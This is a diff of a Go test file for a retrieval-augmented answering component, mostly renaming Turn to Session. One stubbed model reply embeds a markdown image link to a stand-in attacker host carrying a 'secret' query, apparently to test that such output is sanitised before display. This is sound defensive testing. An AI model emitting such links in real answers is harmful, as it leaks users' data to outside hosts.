@@ -68,13 +68,13 @@ func loaded(t *testing.T, texts map[string]string) *rag.Library {
 	return l
 }
 
-// reader is a desk with a model at it.
+// reader is a kit and a model with it.
 type reader struct {
 	subagent.Kit
 	model loop.Model
 }
 
-func newReader(t *testing.T, turn *rag.Turn, m model) reader {
+func newReader(t *testing.T, turn *rag.Session, m model) reader {
 	k := turn.Kit(zerolog.Nop())
 	return reader{k, k.Model(m)}
 }
@@ -99,7 +99,7 @@ func status(r reader, text string) string {
 func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
 	said := ""
-	d := newReader(t, newTurn(t, l, memory.Chat{}, "docs"), model(func(shown string) string {
+	d := newReader(t, newSession(t, l, memory.Chat{}, "docs"), model(func(shown string) string {
 		said = shown
 		return "It costs 14 crowns [1][9]. Children pay 3 crowns [1]. ![x](https://evil.example/?q=secret) See https://example.com/ferry.\nstatus: partial\nmissing: the way back"
 	}))
@@ -130,7 +130,7 @@ func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
 // When nothing is found the model is not asked to make something up.
 func TestNothingFoundIsNotImprovised(t *testing.T) {
 	l := loaded(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
-	d := newReader(t, newTurn(t, l, memory.Chat{}, "docs"), model(func(string) string { return "Certainly: 99 crowns [1]." }))
+	d := newReader(t, newSession(t, l, memory.Chat{}, "docs"), model(func(string) string { return "Certainly: 99 crowns [1]." }))
 	got, _ := ask(t, d, "c", "zeppelin")
 	require.NotContains(t, got, "99")
 	require.NotEmpty(t, got)
@@ -148,7 +148,7 @@ func TestNumbersAreOnePerRun(t *testing.T) {
 	evidence := &rag.Evidence{}
 	seen := map[int]string{}
 	for _, task := range []string{"ferry ticket", "bridge", "ferry ticket"} {
-		turn, err := l.NewTurn(rag.TurnOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}, Evidence: evidence})
+		turn, err := l.NewSession(rag.SessionOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}, Evidence: evidence})
 		require.NoError(t, err)
 		d := newReader(t, turn, quoting)
 		got, _ := ask(t, d, "c", task)
@@ -170,7 +170,7 @@ func TestDelegationsAtTheSameTime(t *testing.T) {
 	for i := range 8 {
 		texts[fmt.Sprintf("d%d", i)] = fmt.Sprintf("The word is token%d.", i)
 	}
-	d := newReader(t, newTurn(t, loaded(t, texts), memory.Chat{}, "docs"), model(func(shown string) string {
+	d := newReader(t, newSession(t, loaded(t, texts), memory.Chat{}, "docs"), model(func(shown string) string {
 		at := strings.Index(shown, "The word is token")
 		n := strings.Index(shown, `"n":`)
 		return fmt.Sprintf("%s [%s].", shown[at:at+len("The word is token0")], shown[n+4:n+5])
